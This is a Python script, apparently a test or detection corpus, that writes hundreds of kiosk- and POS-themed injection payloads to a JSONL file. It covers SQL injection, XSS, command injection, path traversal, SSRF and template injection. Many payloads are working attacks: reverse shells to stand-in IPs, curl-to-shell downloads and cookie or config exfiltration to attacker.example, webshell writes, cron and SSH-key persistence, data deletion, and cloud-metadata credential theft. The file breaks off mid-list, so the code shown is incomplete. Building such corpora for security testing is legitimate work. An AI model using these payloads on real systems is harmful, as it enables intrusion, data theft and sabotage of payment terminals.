#!/usr/bin/env python3
"""Attack corpus for the kiosks theme (self-service kiosks and POS terminals).

Standard library only. Writes attacks.jsonl next to this file.
Almost everything is a hand-written literal (category, class, value). A small
template per category only joins a hand-written theme prefix to a hand-written
payload, or applies one URL encoding to a hand-written payload.
"""
import json
import os
import random
import urllib.parse

SEED = 14602
PREFIX = "hae6"

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
COUNTS = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50, "code": 84,
          "nosqli": 27, "crlf": 30, "ldap-xpath": 20}

LIT = {}

# ------------------------------------------------------------------ sqli
LIT["sqli"] = [
    ("note-union-select", "Kiosk 7 freezes' UNION SELECT login,pin_hash FROM operators-- -"),
    ("ticket-boolean", "printer jam' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- -"),
    ("store-id-number-boolean", "17 OR 1=1"),
    ("order-id-order-by-probe", "4412 ORDER BY 8--"),
    ("kiosk-id-mysql-sleep", "K-0417' AND SLEEP(5)-- -"),
    ("store-mysql-benchmark", "LIS-03' AND BENCHMARK(5000000,MD5('k'))#"),
    ("order-id-pg-stacked-sleep", "4412; SELECT pg_sleep(10)--"),
    ("terminal-mssql-waitfor", "POS-4'; WAITFOR DELAY '0:0:7'--"),
    ("oracle-dbms-pipe-delay", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('k',8)--"),
    ("sqlite-randomblob-delay", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("mysql-extractvalue-error", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))-- "),
    ("receipt-mysql-updatexml-error", "receipt' AND UPDATEXML(1,CONCAT(0x7e,user()),1)#"),
    ("mssql-convert-error", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("pg-cast-error", "' AND 1=CAST((SELECT current_user) AS int)--"),
    ("menu-item-stacked-drop", "Veggie Wrap'; DROP TABLE menu_items;--"),
    ("menu-price-stacked-update", "Cola 0.5l'; UPDATE menu_items SET price=0 WHERE 1=1;--"),
    ("insert-context-add-admin", "x'); INSERT INTO operators(login,role) VALUES('ghost','admin');--"),
    ("mssql-xp-cmdshell", "'; EXEC master..xp_cmdshell 'ping 203.0.113.5';--"),
    ("mysql-into-outfile-webshell", "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/k.php'-- -"),
    ("number-mysql-load-file", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2,3"),
    ("pg-copy-to-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("oracle-utl-http-oob", "' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("mssql-xp-dirtree-oob", r"'; EXEC master..xp_dirtree '\\attacker.example\share';--"),
    ("mysql-comment-as-space", "'/**/UNION/**/SELECT/**/login,pin/**/FROM/**/operators#"),
    ("mysql-versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -"),
    ("payments-case-mixing-union", "' uNiOn SeLeCt NULL,card_last4,NULL FrOm payments-- "),
    ("plain-boolean+urlencode", "%27%20OR%20%271%27%3D%271"),
    ("union+double-urlencode", "%2527%2520UNION%2520SELECT%25201%252C2--"),
    ("boolean+fullwidth-nfkc", "＇ OR １=１--"),
    ("mysql-hex-literal-union", "' UNION SELECT 0x61646d696e,2-- -"),
    ("mssql-exec-concat", "'; EXEC('SEL'+'ECT * FROM operators');--"),
    ("no-space-parentheses", "'or(1)=(1)#"),
    ("newline-as-space-union", "K3'\nUNION\nSELECT\nlogin,pin\nFROM\noperators--"),
    ("like-wildcard-login", "' OR login LIKE 'adm%'--"),
    ("mssql-having-probe", "' HAVING 1=1--"),
    ("group-by-column-probe", "1' GROUP BY 1,2,3-- -"),
    ("kiosk-substring-blind", "K3' AND SUBSTRING((SELECT pin FROM operators WHERE id=1),1,1)='4"),
    ("number-ascii-blind", "17 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>77"),
    ("mysql-if-sleep", "' AND IF(1=1,SLEEP(4),0)-- -"),
    ("number-pg-sleep-subselect", "1 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("sort-param-case-error", "revenue,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("sort-param-mysql-case", "(CASE WHEN (SELECT MID(version(),1,1))='8' THEN store_id ELSE kiosk_id END)"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("mysql-json-extract-boolean", "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- "),
    ("sqlite-master-union", "' UNION SELECT name,sql FROM sqlite_master--"),
    ("number-information-schema", "0 UNION SELECT table_name,column_name FROM information_schema.columns-- -"),
    ("oracle-v-version-union", "' UNION SELECT banner,NULL FROM v$version--"),
    ("mssql-version-union", "' UNION SELECT @@version,NULL--"),
    ("pg-string-agg-users", "' UNION SELECT string_agg(usename,','),NULL FROM pg_user--"),
    ("backslash-escape-bypass", r"K-07\' OR 1=1-- -"),
    ("gbk-multibyte+urlencode", "%bf%27 OR 1=1-- -"),
    ("feedback-insert-subselect", "great service', (SELECT password FROM operators LIMIT 1))-- -"),
    ("update-context-role", "Store 17', role='admin' WHERE login='tom'-- -"),
    ("ticket-double-quote-boolean", "kiosk frozen\" OR \"\"=\""),
    ("order-id-union-hostname", "4412 AND 1=2 UNION SELECT 1,@@hostname,3"),
    ("mssql-openrowset-oob", "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','SELECT 1');--"),
    ("mysql-load-file-dns-oob", r"' AND LOAD_FILE(CONCAT('\\\\',(SELECT database()),'.attacker.example\\a'))-- -"),
    ("pg-lo-import", "'; SELECT lo_import('/etc/shadow');--"),
    ("login-hash-comment", "admin'#"),
    ("sqlite-attach-webshell", "'; ATTACH DATABASE '/var/www/html/k.php' AS k; CREATE TABLE k.p(x text); INSERT INTO k.p VALUES('<?php system($_GET[0]);?>');--"),
    ("mssql-sp-configure", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--"),
    ("oracle-ctxsys-error", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("between-boolean", "' OR 2 BETWEEN 1 AND 3-- -"),
    ("boolean-nullbyte+urlencode", "' OR 1=1;%00"),
    ("mysql-float-union", "4412.0UNION SELECT pin,2 FROM operators"),
    ("paren-close-boolean", "') OR ('a'='a"),
    ("double-paren-boolean", "1)) OR ((1=1"),
    ("mysql-xor-sleep", "'XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR'Z"),
    ("pg-dollar-quote-shadow", "'; SELECT $$x$$ || (SELECT passwd FROM pg_shadow LIMIT 1);--"),
    ("mssql-char-built-exec", "'; DECLARE @q VARCHAR(99)=CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)+' 1'; EXEC(@q);--"),
    ("menu-search-like-union", "burger%' UNION SELECT card_token,expiry,3 FROM payments-- -"),
    ("boolean+overlong-utf8", "%C0%A7 OR 1=1-- -"),
    ("boolean+percent-u", "%u0027%u0020OR%u00201=1--"),
]
SQLI_PRE = ["K-0417 ", "order 4412", "LIS-03 lane 2", "Receipt #88213 ", "Cola 0.5l", "ticket 5531: "]
SQLI_PAY = [
    ("tpl-prefix-boolean", "' OR 'x'='x"),
    ("tpl-prefix-union", "' UNION SELECT login,pin FROM operators-- -"),
    ("tpl-prefix-mssql-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
    ("tpl-prefix-mysql-sleep", "' AND SLEEP(6)#"),
]

# ------------------------------------------------------------------ xss
LIT["xss"] = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("menu-item-img-onerror", "Cheeseburger<img src=x onerror=alert(1)>"),
    ("cookie-exfil-svg", "<svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("screen-text-svg-backtick", "Touch to start<svg/onload=alert`1`>"),
    ("attr-breakout-script-src", "\"><script src=https://attacker.example/k.js></script>"),
    ("attr-single-quote-handler", "' onmouseover='alert(1)"),
    ("attr-autofocus-onfocus", "\" autofocus onfocus=alert(document.cookie) x=\""),
    ("href-javascript-uri", "javascript:alert(1)"),
    ("href-javascript-case-mixing", "JaVaScRiPt:alert(1)"),
    ("href-javascript-entity-tab", "java&#x09;script:alert(1)"),
    ("href-javascript-decimal-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;"),
    ("iframe-javascript-src", "<iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("screen-marquee-onstart", "<marquee onstart=alert(1)>Sold out</marquee>"),
    ("help-link-onclick", "<a href=\"#\" onclick=\"alert(1)\">Need help?</a>"),
    ("object-data-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("script-block-breakout", "</script><script>alert(1)</script>"),
    ("js-string-fromcharcode", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-string-backslash", "\\';alert(1);//"),
    ("js-template-literal", "${alert(document.cookie)}"),
    ("img-atob-eval", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("handler-entity-encoded", "<img src=x onerror=\"&#97;lert(1)\">"),
    ("plain-script+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("img-onerror+double-urlencode", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("script+fullwidth-nfkc", "＜script＞alert(1)＜/script＞"),
    ("js-string-unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("nested-tag-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Menu</text></a></svg>"),
    ("form-action-javascript", "<form action=javascript:alert(1)><button>Pay now</button></form>"),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>Call staff</button></form>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("kiosk-touch-mouseover", "<div style=\"position:fixed;inset:0\" onmouseover=\"alert(1)\">touch</div>"),
    ("kiosk-touch-pointerdown", "<div onpointerdown=alert(1)>Touch to start</div>"),
    ("img-dynamic-import", "<img src=x:x onerror=import('//attacker.example/k.js')>"),
    ("base-tag-hijack", "<base href=\"https://attacker.example/\">"),
    ("meta-refresh-phish", "<meta http-equiv=refresh content=\"0;url=https://attacker.example/pay\">"),
    ("style-import-css-exfil", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("token-exfil-sendbeacon", "<img src=\"x\" onerror=\"navigator.sendBeacon('//attacker.example',localStorage.token)\">"),
    ("markdown-javascript-link", "[Help](javascript:alert(document.cookie))"),
    ("receipt-link-entity-scheme", "<a href=\"jav&#x61;script:alert(1)\">receipt</a>"),
    ("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("img-unterminated", "<img src=1 onerror=alert(1)//"),
    ("img-slash-separators", "<img/src='x'/onerror=alert(1)>"),
    ("img-string-concat-call", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("img-js-hex-escape", "<img src=x onerror=window['\\x61lert'](1)>"),
    ("svg-settimeout-string", "<svg onload=setTimeout('ale'+'rt(1)')>"),
    ("img-function-constructor", "<img src=x onerror=Function('ale'+'rt(1)')()>"),
    ("contenteditable-onblur", "<x contenteditable onblur=alert(1)>lose focus"),
    ("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("angularjs-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("vue2-csti", "{{_c.constructor('alert(1)')()}}"),
    ("plain-attr-breakout-img", "\"><img src=x onerror=alert(1)>"),
    ("comment-breakout", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
    ("cdata-bogus-comment", "<![CDATA[><script>alert(1)</script>]]>"),
    ("receipt-template-img", "Thank you!<br><img src=x onerror=alert(1)>"),
    ("svg-location-cookie", "<svg/onload=location='//attacker.example/?c='+document.cookie>"),
    ("payment-screen-iframe-overlay", "<iframe src=//attacker.example/pay.html style=position:fixed;inset:0;width:100%;height:100%;border:0></iframe>"),
    ("document-write-exfil", "<script>document.write('<img src=//attacker.example/?'+document.cookie+'>')</script>"),
    ("svg-named-entity-parens", "<svg onload=alert&lpar;1&rpar;>"),
    ("img-uppercase", "<IMG SRC=x ONERROR=alert(1)>"),
]
XSS_PRE = ["Today's special: ", "Menu > Burgers > ", "Screen text: Welcome! ", "Kiosk 7 note – "]
XSS_PAY = [
    ("tpl-prefix-img-onerror", "<img src=x onerror=alert(1)>"),
    ("tpl-prefix-svg-onload", "<svg onload=alert(document.cookie)>"),
    ("tpl-prefix-script", "<script>fetch('//attacker.example/?'+document.cookie)</script>"),
    ("tpl-prefix-details", "<details open ontoggle=alert(1)>"),
]

# ------------------------------------------------------------------ cmdi
LIT["cmdi"] = [
    ("kiosk-id-semicolon", "K-0417; cat /etc/passwd"),
    ("kiosk-id-and", "kiosk-07 && id"),
    ("terminal-pipe-netcat", "POS-2 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("ip-backtick", "10.20.3.15`id`"),
    ("ip-dollar-paren", "10.20.3.15$(whoami)"),
    ("plain-curl-pipe-sh", "; curl -s http://attacker.example/k.sh | sh"),
    ("or-wget-pipe-bash", "|| wget -qO- http://198.51.100.23/x | bash"),
    ("kiosk-id-newline", "K-0417\nid"),
    ("newline+urlencode", "K-0417%0Aid"),
    ("semicolon+urlencode", "K-0417%3Bcat%20%2Fetc%2Fshadow"),
    ("ifs-space", ";${IFS}cat${IFS}/etc/passwd"),
    ("redirect-no-space", "a;cat</etc/passwd"),
    ("nested-subst-dns", "$(curl${IFS}attacker.example/$(hostname))"),
    ("bash-dev-tcp-reverse", "; bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    ("python-reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("perl-system", "; perl -e 'system(\"id\")'"),
    ("php-cli-system", "; php -r 'system(\"id\");'"),
    ("backslash-split", r"&& c\at /e\tc/pa\ss\wd"),
    ("quote-split", "; c''at /et''c/pas''swd"),
    ("glob-wildcards", "; /???/c?t /???/p?ss??"),
    ("base64-pipe-sh", "; echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("printf-hex-subst", r"; $(printf '\x69\x64')"),
    ("ansi-c-quoting", r"; $'\x69\x64'"),
    ("curl-arg-output-webroot", "-o /var/www/html/k.php http://attacker.example/k.txt"),
    ("logo-url-curl-arg-cron", "http://attacker.example/c -o /etc/cron.d/kiosk"),
    ("tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/k.sh"),
    ("rsync-e-arg", "-e 'sh -c id' backup@nas01:/exports"),
    ("ssh-proxycommand-arg", "-oProxyCommand=curl attacker.example/s|sh"),
    ("find-exec-arg", "logs -exec sh -c 'curl attacker.example/$(id -u)' ;"),
    ("git-upload-pack-arg", "--upload-pack=touch /tmp/pwn"),
    ("zip-tt-arg", "exports.zip -T -TT 'sh -c id #'"),
    ("wget-post-file-arg", "--post-file=/etc/passwd http://attacker.example/"),
    ("sendmail-x-logfile-arg", "-OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("ping-target-semicolon", "127.0.0.1 -c 1; id"),
    ("windows-ampersand-type", r"K-0417 & type C:\Windows\win.ini"),
    ("windows-pipe-whoami", "K-0417 | whoami /all"),
    ("windows-net-user-add", "&& net user kiosk P@ss1 /add"),
    ("powershell-iex-download", "| powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-encodedcommand", "& powershell -EncodedCommand dwBoAG8AYQBtAGkA"),
    ("windows-certutil-download", r"& certutil -urlcache -split -f http://attacker.example/k.exe %TEMP%\k.exe & %TEMP%\k.exe"),
    ("windows-cmd-dir", r"& cmd.exe /c dir C:\ProgramData\Kiosk"),
    ("windows-caret-obfuscation", "K-0417 & w^h^o^a^m^i"),
    ("windows-comspec", "& %COMSPEC% /c ver"),
    ("powershell-line-get-content", r"; Get-Content C:\kiosk\secrets.json"),
    ("powershell-subexpression-exfil", r"$(Invoke-WebRequest http://attacker.example -Method POST -Body (Get-Content C:\kiosk\config.json))"),
    ("plain-backtick", "`whoami`"),
    ("subst-sleep", "$(sleep 10)"),
    ("semicolon-sleep-comment", "; sleep 10 #"),
    ("windows-timeout-delay", "| timeout /t 10"),
    ("ping-delay", "&& ping -c 10 127.0.0.1"),
    ("nslookup-dns-exfil", "; nslookup $(whoami).attacker.example"),
    ("backtick-dig-exfil", "`dig +short $(id -u).attacker.example`"),
    ("authorized-keys-append", "; echo 'ssh-ed25519 AAAAFAKEKEYFAKEKEY attacker@attacker.example' >> ~/.ssh/authorized_keys"),
    ("crontab-persistence", "; crontab -l | { cat; echo '* * * * * curl attacker.example/b|sh'; } | crontab -"),
    ("destructive-rm", "; rm -rf /opt/kiosk/data"),
    ("stop-kiosk-service", "; systemctl stop kiosk-ui"),
    ("and-id+urlencode", "kiosk-07 %26%26 id"),
    ("newline+double-urlencode", "kiosk-07%250Aid"),
    ("brace-expansion", "; {cat,/etc/passwd}"),
    ("variable-concat-command", "; a=c;b=at;$a$b /etc/passwd"),
    ("alt-reader-nl", "; nl /etc/shadow"),
    ("curl-post-config-exfil", "; curl -d @/etc/kiosk/payment.conf attacker.example"),
    ("busybox-nc-reverse", "; busybox nc 203.0.113.7 4444 -e sh"),
    ("awk-system", "; awk 'BEGIN{system(\"id\")}'"),
    ("openssl-reverse-shell", "; openssl s_client -quiet -connect 203.0.113.7:443 | /bin/sh | openssl s_client -quiet -connect 203.0.113.7:444"),
    ("subst-write-file", "$(id>/tmp/x)"),
    ("kiosk-id-or", "K-0417 || id"),
    ("windows-pipe-type-ssh-key", r"| type %USERPROFILE%\.ssh\id_rsa"),
    ("ssh-localcommand-arg", "-oPermitLocalCommand=yes -oLocalCommand=id kiosk@10.20.3.15"),
]
CMDI_PRE = ["K-0417", "POS-2", "kiosk-07.store.local", "10.20.3.15"]
CMDI_PAY = [
    ("tpl-prefix-semicolon-id", "; id"),
    ("tpl-prefix-subst-curl", "$(curl attacker.example/k|sh)"),
    ("tpl-prefix-pipe-cat", " | cat /etc/kiosk/payment.conf"),
    ("tpl-prefix-windows-amp", " & whoami"),
]

# ------------------------------------------------------------------ traversal
LIT["traversal"] = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("log-download-dotdot-shadow", "logs/../../../../etc/shadow"),
    ("receipt-logo-dotdot-key", "../../../opt/kiosk/config/payment.key"),
    ("windows-backslash-winini", r"..\..\..\Windows\win.ini"),
    ("windows-programdata-config", r"..\..\..\..\ProgramData\Kiosk\config.xml"),
    ("dotdot+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("dotdot+double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("backslash+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("slash+percent-u", "..%u2215..%u2215etc%u2215passwd"),
    ("strip-bypass-double-dots", "....//....//....//etc/passwd"),
    ("strip-bypass-dot-slash", "..././..././..././etc/passwd"),
    ("absolute-path", "/etc/passwd"),
    ("windows-absolute-hosts", r"C:\Windows\System32\drivers\etc\hosts"),
    ("proc-self-environ", "../../../../proc/self/environ"),
    ("proc-self-cmdline", "../../../../proc/self/cmdline"),
    ("firmware-path-ssh-key", "firmware/5.2.0/../../../../root/.ssh/id_rsa"),
    ("export-path-sqlite-db", "exports/2024-06/../../../../var/lib/kiosk/db.sqlite"),
    ("nullbyte-extension+urlencode", "../../../../etc/passwd%00.png"),
    ("encoded-slash-kiosk-conf", "..%2f..%2f..%2f..%2fetc%2fkiosk%2fkiosk.conf"),
    ("encoded-dots-auth-log", "%2e%2e/%2e%2e/%2e%2e/var/log/auth.log"),
    ("encoded-backslash-sam", "..%5c..%5c..%5cWindows%5cSystem32%5cconfig%5cSAM"),
    ("slash+fullwidth-nfkc", "..／..／..／etc／passwd"),
    ("fullwidth-slash+urlencode", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("static-root-escape", "/var/www/kiosk/static/../../../../etc/hosts"),
    ("ad-playlist-dotdot", "ads/summer/../../../../etc/passwd"),
    ("bash-history", "../../../../../../home/kiosk/.bash_history"),
    ("windows-web-config", r"..\..\..\inetpub\wwwroot\web.config"),
    ("java-web-inf", "../../../WEB-INF/web.xml"),
    ("tomcat-path-param", "..;/..;/WEB-INF/web.xml"),
    ("static-encoded-slash", "/static/..%2f..%2f..%2fetc/passwd"),
    ("half-encoded-dot", ".%2e/.%2e/.%2e/etc/passwd"),
    ("encoded-backslash-winini", "%2e%2e%5c%2e%2e%5cwin.ini"),
    ("slash+double-urlencode", "..%252f..%252f..%252fetc%252fshadow"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("receipt-template-dotenv", "templates/receipt/../../../../app/.env"),
    ("mixed-separators", r"..\..//..\..//etc/passwd"),
    ("zip-slip-entry", "../../../../opt/kiosk/bin/start.sh"),
    ("logo-file-dotdot", "logo.png/../../../../../etc/passwd"),
    ("proc-self-root", "/proc/self/root/etc/shadow"),
    ("dot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("nested-percent-double-decode", "%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"),
    ("windows-forward-slash-system-hive", "C:/ProgramData/Kiosk/../../Windows/System32/config/SYSTEM"),
    ("deep-dotdot-terminal-key", "../../../../../../../../../../etc/kiosk/payment/terminal.key"),
    ("export-name-dotdot-cron", "../../../../etc/cron.d/kiosk-export"),
]
TRAV_PRE = ["receipts/logos/", "exports/store17/", "firmware/beta/", "media/ads/"]
TRAV_PAY = [
    ("tpl-prefix-dotdot-passwd", "../../../../etc/passwd"),
    ("tpl-prefix-dotdot-shadow", "../../../../../etc/shadow"),
    ("tpl-prefix-windows-winini", "..\\..\\..\\..\\Windows\\win.ini"),
    ("tpl-prefix-encoded-dotdot", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
]

# ------------------------------------------------------------------ ssrf
LIT["ssrf"] = [
    ("aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("gcp-token-ip", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("gcp-metadata-hostname", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("loopback-admin", "http://127.0.0.1:8080/admin/"),
    ("docker-api-localhost", "http://localhost:2375/containers/json"),
    ("ipv6-loopback-redis", "http://[::1]:6379/"),
    ("loopback-decimal-ip", "http://2130706433/"),
    ("loopback-hex-ip", "http://0x7f000001/"),
    ("loopback-octal-ip", "http://0177.0.0.1/"),
    ("loopback-short-ip", "http://127.1/server-status"),
    ("zero-ip", "http://0/"),
    ("imds-ipv4-mapped-ipv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("dns-rebind-attacker-name", "http://169-254-169-254.attacker.example/latest/meta-data/"),
    ("userinfo-confusion-imds", "http://attacker.example@169.254.169.254/latest/meta-data/"),
    ("allowlist-prefix-userinfo", "http://loyalty.example.org@169.254.169.254/latest/user-data"),
    ("gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20k%20x%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0A"),
    ("gopher-smtp", "gopher://10.20.3.15:25/_HELO%20x%0D%0AMAIL%20FROM:%3Ca@attacker.example%3E%0D%0A"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-passwd", "file:///etc/passwd"),
    ("file-scheme-windows", "file:///C:/ProgramData/Kiosk/config.xml"),
    ("ftp-internal", "ftp://10.0.0.5/firmware/"),
    ("kds-internal-api", "http://10.20.3.15/api/orders"),
    ("router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("docker-bridge-portainer", "http://172.17.0.1:9000/"),
    ("internal-hostname-reset", "http://kds-2.store.local:8080/reset"),
    ("internal-service-refund", "http://payment-bridge:8443/v1/refund?amount=999"),
    ("consul-kv", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("k8s-api-secrets", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("ipv6-ula-admin", "http://[fd00::1]/admin"),
    ("open-redirect-chain-imds", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("attacker-302-to-internal", "http://198.51.100.44/302.php?u=http://127.0.0.1:8080/admin"),
    ("elasticsearch-local", "http://127.0.0.1:9200/_cat/indices"),
    ("loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①/"),
    ("loopback-host+urlencode", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("loopback-dotted-hex", "http://0x7f.0x0.0x0.0x1:8080/"),
    ("loopback-octal-full", "http://017700000001/"),
    ("loopback-zero-padded", "http://127.000.000.001/"),
    ("ipv6-mapped-dotted", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("java-jar-scheme", "jar:http://attacker.example/x.zip!/a"),
    ("java-netdoc-scheme", "netdoc:///etc/passwd"),
    ("ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
    ("unc-smb-ntlm-leak", r"\\203.0.113.8\share\logo.png"),
    ("kiosk-cups-admin", "http://localhost:631/admin"),
    ("kiosk-chrome-devtools", "http://127.0.0.1:9222/json/version"),
    ("kiosk-devtools-websocket", "ws://127.0.0.1:9222/devtools/browser/"),
]
SSRF_PRE = ["https://loyalty.example.org/out?next=", "https://attacker.example/r?u=", "http://198.51.100.44/302.php?to="]
SSRF_PAY = [
    ("tpl-prefix-imds", "http://169.254.169.254/latest/meta-data/"),
    ("tpl-prefix-loopback-admin", "http://127.0.0.1/admin"),
    ("tpl-prefix-internal-kds", "http://10.20.3.15:8080/api/orders?all=1"),
    ("tpl-prefix-decimal-ip", "http://2852039166/latest/user-data"),
]

# ------------------------------------------------------------------ code
LIT["code"] = [
    ("jinja2-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-self-builtins-import", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja2-attr-hex-escape", r"{{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}"),
    ("jinja2-lipsum-read-config", "{{ lipsum.__globals__['os'].popen('cat /etc/kiosk/payment.conf').read() }}"),
    ("receipt-jinja2-request-open", "Thank you {{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("receipt-jinja2-subclasses", "Footer: {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("twig-filter-system", "{{['id']|filter('system')}}"),
    ("twig1-undefined-filter-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("twig3-map-system", "{{['cat /etc/passwd']|map('system')|join}}"),
    ("smarty-system", "{system('id')}"),
    ("freemarker-assign-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker-inline-execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("velocity-class-forname", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("erb-backtick", "<%= `id` %>"),
    ("receipt-erb-system", "Danke! <%= system('cat /etc/passwd') %>"),
    ("mako-block-import", "<% import os; x=os.popen('id').read() %>${x}"),
    ("tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("pug-interpolation", "#{function(){return global.process.mainModule.require('child_process').execSync('id')}()}"),
    ("ejs-output-exec", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
